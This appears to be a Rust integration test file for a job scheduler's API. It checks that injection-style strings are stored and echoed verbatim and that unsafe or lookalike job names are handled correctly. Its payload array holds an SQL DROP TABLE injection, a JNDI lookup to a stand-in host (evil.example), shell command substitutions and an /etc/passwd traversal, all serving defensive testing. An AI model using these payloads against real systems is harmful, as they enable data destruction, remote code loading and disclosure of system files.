//! Texts that are code elsewhere: for a terminal, a database, a template or a shell.

use cueline_model::{AttemptEvent, LogLine, LogStream};
use reqwest::StatusCode;
use serde_json::json;

use crate::behaviour::{apply, dispatching, report, triggered};
use crate::hostile::assert_fires;
use crate::server::Server;

/// Texts that must be stored, found and returned as they are.
const CODE: [&str; 12] = [
    "'; DROP TABLE jobs; --",
    "' OR '1'='1",
    "\" OR 1=1 --",
    "%",
    "_",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n %1$s {} {0} :name ?1 $1 @p1",
    "$(id) `id` ; id | id & id",
    "<script>alert(1)</script>]]>&amp;",
    "\u{1b}[2J\u{1b}]0;title\u{7}\r\u{8}\u{9b}31m\u{202e}gnp\u{2066}\u{feff}\u{200b}",
    "../../etc/passwd\\..\\..\n\nGET / HTTP/1.1\r\nX: 1",
];

#[tokio::test]
async fn texts_that_are_code_elsewhere_come_back_unchanged() {
    let server = Server::start().await;
    let job = |n: usize, text: &str| {
        json!({
            "name": format!("j{n}"),
            "description": text,
            "labels": { "a": text },
            "params": text,
            "schedule": { "manual": true },
            "handler": { "shell": { "script": text, "env": { "A": text } } },
        })
    };
    let jobs: Vec<_> = CODE
        .iter()
        .enumerate()
        .map(|(n, text)| job(n, text))
        .collect();
    server
        .post("/jobs/apply", &json!({ "jobs": jobs }))
        .await
        .good();
    for (n, text) in CODE.iter().enumerate() {
        let shown = server.get(&format!("/jobs/j{n}")).await.good();
        assert_eq!(shown["description"], *text);
        assert_eq!(shown["labels"]["a"], *text);
        assert_eq!(shown["params"], *text);
        assert!(
            shown["handler"]
                .to_string()
                .contains(&json!(text).to_string()),
            "{shown}"
        );
    }
    let listed = server.get("/jobs?limit=1000").await.good();
    assert_eq!(listed["jobs"].as_array().map(Vec::len), Some(CODE.len()));
    assert_fires(&server).await;
}

#[tokio::test]
async fn a_key_is_never_a_pattern_nor_code() {
    let server = Server::start().await;
    assert_fires(&server).await;
    let mut runs = Vec::new();
    for round in [StatusCode::ACCEPTED, StatusCode::OK] {
        for text in CODE.into_iter().chain(["abc", "ABC", "abc ", "a%c", "a_c"]) {
            let body = json!({ "idempotency_key": text, "params": text });
            let fired = server.post("/jobs/fires/trigger", &body).await;
            assert_eq!(fired.status, round, "{text:?}: {fired:?}");
            let id = fired.json()["runs"][0].as_i64().expect("a run");
            let run = server.get(&format!("/runs/{id}")).await.good();
            assert_eq!(run["params"], text);
            runs.push(id);
        }
    }
    let again = runs.split_off(runs.len() / 2);
    assert_eq!(runs, again, "the same key names the same run");
}

#[tokio::test]
async fn a_key_has_a_longest_length() {
    let server = Server::start().await;
    assert_fires(&server).await;
    for (bytes, status) in [(256, 202), (257, 400), (1_000_000, 400)] {
        let body = json!({ "idempotency_key": "k".repeat(bytes) });
        let fired = server.post("/jobs/fires/trigger", &body).await;
        assert_eq!(fired.status.as_u16(), status, "{bytes} bytes");
    }
}

#[tokio::test]
async fn a_log_is_stored_as_the_job_has_written_it() {
    let server = Server::start().await;
    apply(&server, "a").await;
    let run = triggered(&server, "a").await;
    let attempt = dispatching(&server, run).await;
    let confirmed = server.store.confirm_dispatch(&[attempt]).await;
    confirmed.expect("confirmed");
    let at = server.store.now().await.expect("the time");
    let lines = (1..).zip(CODE).map(|(seq, text)| LogLine {
        seq,
        at,
        stream: LogStream::Out,
        text: text.to_owned(),
    });
    let lines = lines.collect();
    report(&server, attempt, AttemptEvent::Log { lines }).await;
    let page = server.get(&format!("/runs/{run}/logs")).await.good();
    for (n, text) in CODE.iter().enumerate() {
        assert_eq!(page["lines"][n]["text"], *text);
    }
}

#[tokio::test]
async fn names_that_mean_something_elsewhere_are_refused() {
    let server = Server::start().await;
    let long = "n".repeat(129);
    // An underscore alone is a name.
    let code = CODE.into_iter().filter(|text| *text != "_");
    for name in code.chain([
        "*",
        "a*",
        "a.>",
        "#",
        "[a-z]",
        "a|b",
        "^a$",
        "..",
        "-rf",
        "a/b",
        "a b",
        "CON:\\a",
        // A letter and a mark that combine, a zero-width joiner, a filler that is not seen.
        "cafe\u{301}",
        "a\u{200d}b",
        "a\u{3164}",
        &long,
    ]) {
        let job = json!({ "name": name, "schedule": {"manual": true}, "handler": {"native": "x"} });
        let answer = server.post("/jobs/apply", &json!({ "jobs": [job] })).await;
        assert_eq!(answer.status.as_u16(), 422, "{name:?}: {answer:?}");
        assert!(answer.text.contains("name"), "{name:?}: {answer:?}");
    }
    let listed = server.get("/jobs").await.good();
    assert_eq!(listed["jobs"], json!([]));
    assert_fires(&server).await;
}

#[tokio::test]
async fn names_that_look_alike_are_different_jobs() {
    let server = Server::start().await;
    let names = [
        "scope",
        "s\u{441}ope",
        "\u{ff53}cope",
        "SCOPE",
        "\u{fb01}le",
        "file",
    ];
    let jobs: Vec<_> = names
        .iter()
        .map(|name| {
            json!({ "name": name, "description": name, "schedule": {"manual": true}, "handler": {"native": "x"} })
        })
        .collect();
    server
        .post("/jobs/apply", &json!({ "jobs": jobs }))
        .await
        .good();
    for name in names {
        let shown = server.get(&format!("/jobs/{name}")).await.good();
        assert_eq!(shown["description"], name);
    }
    server.delete("/jobs/scope").await.good();
    let listed = server.get("/jobs").await.good();
    let left = listed["jobs"].as_array().map(Vec::len);
    assert_eq!(left, Some(names.len() - 1));
}
